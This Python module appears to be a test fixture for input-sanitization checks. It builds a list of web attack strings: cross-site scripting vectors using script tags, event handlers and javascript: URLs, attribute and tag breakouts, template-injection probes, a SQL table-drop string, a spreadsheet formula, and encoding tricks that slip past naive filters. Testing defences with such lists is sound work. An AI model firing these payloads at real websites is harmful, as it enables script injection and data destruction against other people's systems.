"""Texts that try to become code: in an element, an attribute, an address, a script, a template, a query."""

from __future__ import annotations

_ELEMENTS = [
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}></iframe>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<math><a xlink:href=javascript:{0}>x</a></math>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<meta http-equiv=refresh content=0;url=javascript:{0}>",
    "<base href=javascript:{0}//>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<a href=javascript:{0}>klik</a>",
    "<style>@import 'javascript:{0}'</style>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
]
_BREAKING_OUT = ['"><', "'><", '" onmouseover={0} x="', "' onfocus={0} autofocus x='", "</textarea>", "</title>", "-->"]
_OTHERS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{{{7*7}}}}",
    "{{% import os %}}",
    "${{7*7}}",
    "%(name)s %s %d {{0}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.tpircs",
    "\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "'; drop table idea; --",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319algo",
    "]]><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "=1+1",
]
PAYLOADS = [
    *(shape.format("alert(1)") for shape in _ELEMENTS),
    *(out.format("alert(1)") + shape.format("alert(1)") for out in _BREAKING_OUT for shape in _ELEMENTS[:12]),
    *(shape.format() for shape in _OTHERS),
]
